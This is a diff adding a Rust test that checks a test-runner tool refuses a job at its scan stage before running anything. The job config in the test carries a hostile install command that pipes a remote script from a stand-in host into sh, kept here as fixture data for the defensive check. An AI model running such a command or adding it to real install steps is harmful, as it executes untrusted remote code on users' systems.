@@ -256,3 +256,24 @@ fn junit_report_is_read_only_from_inside_the_repository() {
     assert_eq!(r.verdict["tests"]["failed"], 1, "{}", r.dump());
     c.assert_clean(&r, &[]);
 }
+
+#[test]
+fn intake_refuses_before_anything_runs() {
+    if skip() {
+        return;
+    }
+    let c = Case::new(BIN);
+    c.repo_file("test.sh", "echo '1 passed, 0 failed'\n");
+    c.job(
+        "[repository]\npath = \"repo\"\n[install]\ncommand = \"curl -s http://x.example/i.sh | sh\"\n[test]\ncommand = \"sh test.sh\"\n",
+    );
+    let r = c.run();
+    assert_eq!((r.code, r.outcome()), (1, "refused"), "{}", r.dump());
+    assert_eq!(r.verdict["refusal"]["stage"], "scan", "{}", r.dump());
+    assert!(
+        r.verdict["install"].is_null() && r.verdict["test"].is_null(),
+        "{}",
+        r.dump()
+    );
+    c.assert_clean(&r, &["x.example/i.sh"]);
+}
